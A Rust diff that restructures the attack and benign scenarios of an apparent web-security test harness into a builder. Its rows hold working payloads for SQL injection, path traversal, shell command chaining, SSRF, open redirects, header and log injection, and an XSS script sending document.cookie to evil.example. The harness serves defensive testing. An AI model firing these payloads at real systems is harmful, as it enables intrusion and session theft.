@@ -34,6 +34,9 @@ const OWN_HOSTS: &[&str] = &["partner.shop.example"];
 /// The admin's API key, as the seed data has it.
 const ADMIN_KEY: &str = "key-admin-91c2";
 
+/// Ann's API key: her logins succeed, so the redirect is what they test.
+const ANN_KEY: &str = "key-ann-7f3a";
+
 /// The forged audit line the log attack writes.
 pub(crate) const FORGED_LINE: &str = "t=1764374400 login ok user=admin";
 
@@ -79,20 +82,61 @@ fn login(name: &str, key: &str, next: &str) -> Request {
     }
 }
 
-fn one(
+/// The rows of one sink class, in the order sent.
+struct Rows {
     class: &'static str,
-    expected: Expected,
-    label: impl Into<String>,
-    request: Request,
-    check: Check,
-) -> Scenario {
-    Scenario {
-        class,
-        label: label.into(),
-        expected,
-        requests: vec![request],
-        check,
+    rows: Vec<Scenario>,
+}
+
+impl Rows {
+    fn new(class: &'static str) -> Rows {
+        Rows {
+            class,
+            rows: Vec::new(),
+        }
     }
+
+    /// A request both builds should serve, `check` telling that they did.
+    fn benign(self, label: impl Into<String>, request: Request, check: Check) -> Rows {
+        self.row(Expected::Benign, label.into(), vec![request], check)
+    }
+
+    /// A real attack, `check` recognising its effect.
+    fn attack(self, label: impl Into<String>, request: Request, check: Check) -> Rows {
+        self.burst(label, vec![request], check)
+    }
+
+    /// An attack that takes several requests in a row.
+    fn burst(self, label: impl Into<String>, requests: Vec<Request>, check: Check) -> Rows {
+        self.row(Expected::Attack, label.into(), requests, check)
+    }
+
+    fn row(
+        mut self,
+        expected: Expected,
+        label: String,
+        requests: Vec<Request>,
+        check: Check,
+    ) -> Rows {
+        self.rows.push(Scenario {
+            class: self.class,
+            label,
+            expected,
+            requests,
+            check,
+        });
+        self
+    }
+}
+
+/// `GET /search?q=`: the SQL rows' request, whatever the search.
+fn search(q: &str) -> Request {
+    get("/search", &[("q", q)])
+}
+
+/// `GET /profile?name=&bio=`: the HTML rows' request.
+fn profile(name: &str, bio: &str) -> Request {
+    get("/profile", &[("name", name), ("bio", bio)])
 }
 
 /// The heavy query a time-based blind probe runs when its condition on the
@@ -107,7 +151,6 @@ const HEAVY: &str = "zzz' OR (CASE WHEN substr((SELECT api_key FROM users WHERE 
 
 /// Every scenario, in the order sent.
 pub(crate) fn scenarios(setup: &Setup<'_>) -> Vec<Scenario> {
-    use Expected::{Attack, Benign};
     let avatar = format!(
         "http://{}:{}/avatars/ann.png",
         setup.avatar_host,
@@ -122,230 +165,152 @@ pub(crate) fn scenarios(setup: &Setup<'_>) -> Vec<Scenario> {
         setup.metadata.port()
     );
     let marker = setup.marker.display().to_string();
-    let shell = format!("x; echo pwned > '{marker}'; echo ");
+    let chained = format!("x; echo pwned > '{marker}'; echo ");
     let guesses = (0..15)
         .map(|n| login("admin", &format!("guess-{n:02}"), "/"))
         .collect();
-    vec![
-        // SQL
-        one(
-            "sql",
-            Benign,
-            "search `kett`",
-            get("/search", &[("q", "kett")]),
-            Check::BodyIs(r#"["kettle"]"#),
-        ),
-        one(
-            "sql",
-            Benign,
+    let sql = Rows::new("sql")
+        .benign("search `kett`", search("kett"), Check::BodyIs(r#"["kettle"]"#))
+        .benign(
             "search `tea -- 1=1 OR union select`",
-            get("/search", &[("q", "tea -- 1=1 OR union select")]),
+            search("tea -- 1=1 OR union select"),
             Check::Served(200),
-        ),
-        one(
-            "sql",
-            Attack,
+        )
+        .attack(
             "UNION: `zzz' UNION SELECT api_key FROM users --`",
-            get(
-                "/search",
-                &[("q", "zzz' UNION SELECT api_key FROM users --")],
-            ),
+            search("zzz' UNION SELECT api_key FROM users --"),
             Check::BodyContains(ADMIN_KEY),
-        ),
-        one(
-            "sql",
-            Attack,
+        )
+        .attack(
             "boolean blind: admin key starts `key-admin`?",
-            get(
-                "/search",
-                &[(
-                    "q",
-                    "zzz' OR substr((SELECT api_key FROM users WHERE name = 'admin'), 1, 9) = 'key-admin' --",
-                )],
+            search(
+                "zzz' OR substr((SELECT api_key FROM users WHERE name = 'admin'), 1, 9) = 'key-admin' --",
             ),
             Check::BodyIs(r#"["kettle","teapot","mug"]"#),
-        ),
-        one(
-            "sql",
-            Attack,
+        )
+        .attack(
             "time-based blind: slow query if admin key matches",
-            get("/search", &[("q", HEAVY)]),
+            search(HEAVY),
             Check::SlowerThan(Duration::from_millis(150)),
-        ),
-        one(
-            "sql",
-            Attack,
+        )
+        .attack(
             "login bypass: name `admin' --`",
             login("admin' --", "x", "/"),
             Check::LoggedIn,
-        ),
-        // Path
-        one(
-            "path",
-            Benign,
+        );
+    let path = Rows::new("path")
+        .benign(
             "download `manual.txt`",
             get("/files/manual.txt", &[]),
             Check::BodyIs("kettle manual\n"),
-        ),
-        one(
-            "path",
-            Attack,
+        )
+        .attack(
             "traversal: `/files/..%2Fsecret.txt`",
             get("/files/..%2Fsecret.txt", &[]),
             Check::BodyContains("shop secret"),
-        ),
-        // Shell
-        one(
-            "shell",
-            Benign,
+        );
+    let shell = Rows::new("shell")
+        .benign(
             "export `march-2026_v2`",
             get("/export", &[("name", "march-2026_v2")]),
             Check::BodyIs("exported\n"),
-        ),
-        one(
-            "shell",
-            Attack,
+        )
+        .attack(
             "command chaining: `x; echo pwned > MARKER; echo `",
-            get("/export", &[("name", &shell)]),
+            get("/export", &[("name", &chained)]),
             Check::MarkerWritten,
-        ),
-        // SSRF
-        one(
-            "ssrf",
-            Benign,
+        );
+    let ssrf = Rows::new("ssrf")
+        .benign(
             format!("avatar from {}", setup.avatar_host),
             get("/avatar", &[("url", &avatar)]),
             Check::BodyIs("PNG-AVATAR"),
-        ),
-        one(
-            "ssrf",
-            Attack,
+        )
+        .attack(
             "avatar from 127.0.0.1 metadata stand-in",
             get("/avatar", &[("url", &metadata)]),
             Check::InternalReached,
-        ),
-        one(
-            "ssrf",
-            Attack,
+        )
+        .attack(
             "avatar from `2130706433` (127.0.0.1 as a number)",
             get("/avatar", &[("url", &metadata_decimal)]),
             Check::InternalReached,
-        ),
-        // Redirect
-        one(
-            "redirect",
-            Benign,
-            "login, next `/orders?page=2`",
-            login("ann", "key-ann-7f3a", "/orders?page=2"),
+        );
+    let mut redirect = Rows::new("redirect");
+    for next in [
+        "/orders?page=2",
+        "/welcome?from=https://evil.example",
+        "https://partner.shop.example/",
+    ] {
+        redirect = redirect.benign(
+            format!("login, next `{next}`"),
+            login("ann", ANN_KEY, next),
             Check::Served(303),
-        ),
-        one(
-            "redirect",
-            Benign,
-            "login, next `/welcome?from=https://evil.example`",
-            login("ann", "key-ann-7f3a", "/welcome?from=https://evil.example"),
-            Check::Served(303),
-        ),
-        one(
-            "redirect",
-            Benign,
-            "login, next `https://partner.shop.example/`",
-            login("ann", "key-ann-7f3a", "https://partner.shop.example/"),
-            Check::Served(303),
-        ),
-        one(
-            "redirect",
-            Attack,
-            "open redirect: next `https://evil.example/phish`",
-            login("ann", "key-ann-7f3a", "https://evil.example/phish"),
+        );
+    }
+    for next in ["https://evil.example/phish", "//evil.example/"] {
+        redirect = redirect.attack(
+            format!("open redirect: next `{next}`"),
+            login("ann", ANN_KEY, next),
             Check::LocationOffSite(OWN_HOSTS),
-        ),
-        one(
-            "redirect",
-            Attack,
-            "open redirect: next `//evil.example/`",
-            login("ann", "key-ann-7f3a", "//evil.example/"),
-            Check::LocationOffSite(OWN_HOSTS),
-        ),
-        // HTML
-        one(
-            "html",
-            Benign,
+        );
+    }
+    let html = Rows::new("html")
+        .benign(
             "profile `Ann & Bob`, bio `I <3 tea; 2 < 3`",
-            get(
-                "/profile",
-                &[("name", "Ann & Bob"), ("bio", "I <3 tea; 2 < 3")],
-            ),
+            profile("Ann & Bob", "I <3 tea; 2 < 3"),
             Check::BodyContains("Ann & Bob"),
-        ),
-        one(
-            "html",
-            Attack,
+        )
+        .attack(
             "XSS: name `<script>…document.cookie…</script>`",
-            get(
-                "/profile",
-                &[
-                    (
-                        "name",
-                        "Ann<script>fetch('https://evil.example/?c='+document.cookie)</script>",
-                    ),
-                    ("bio", "tea"),
-                ],
+            profile(
+                "Ann<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+                "tea",
             ),
             Check::BodyContains("<script>fetch("),
-        ),
-        one(
-            "html",
-            Attack,
+        )
+        .attack(
             "XSS: bio `<img src=x onerror=alert(1)>`",
-            get(
-                "/profile",
-                &[("name", "Ann"), ("bio", "<img src=x onerror=alert(1)>")],
-            ),
+            profile("Ann", "<img src=x onerror=alert(1)>"),
             Check::BodyContains("<img src=x onerror="),
-        ),
-        // Header
-        one(
-            "header",
-            Benign,
+        );
+    let header = Rows::new("header")
+        .benign(
             "language `pt-BR`",
             get("/lang", &[("lang", "pt-BR")]),
             Check::Served(303),
-        ),
-        one(
-            "header",
-            Attack,
+        )
+        .attack(
             "cookie attrs: `en; Domain=shop.example; Max-Age=…`",
             get(
                 "/lang",
                 &[("lang", "en; Domain=shop.example; Max-Age=315360000")],
             ),
             Check::HeaderContains("set-cookie", "Domain=shop.example"),
-        ),
-        // Log
-        one(
-            "log",
-            Benign,
+        );
+    let log = Rows::new("log")
+        .benign(
             "failed login as `Zoë<TAB>Neil \\n`",
             login("Zoë\tNeil \\n", "wrong", "/"),
             Check::Served(401),
-        ),
-        one(
-            "log",
-            Attack,
+        )
+        .attack(
             "log forging: `bob<LF>t=… login ok user=admin`",
             login(&format!("bob\n{FORGED_LINE}"), "wrong", "/"),
             Check::AuditLine(FORGED_LINE),
-        ),
-        // Rate limit: last, it spends the rest of the login budget.
-        Scenario {
-            class: "rate limit",
-            label: "15 key guesses for `admin` in a row".to_owned(),
-            expected: Attack,
-            requests: guesses,
-            check: Check::Unthrottled,
-        },
+        );
+    // Last: it spends the rest of the login budget.
+    let rate_limit = Rows::new("rate limit").burst(
+        "15 key guesses for `admin` in a row",
+        guesses,
+        Check::Unthrottled,
+    );
+    [
+        sql, path, shell, ssrf, redirect, html, header, log, rate_limit,
     ]
+    .into_iter()
+    .flat_map(|rows| rows.rows)
+    .collect()
 }
 
 #[cfg(test)]
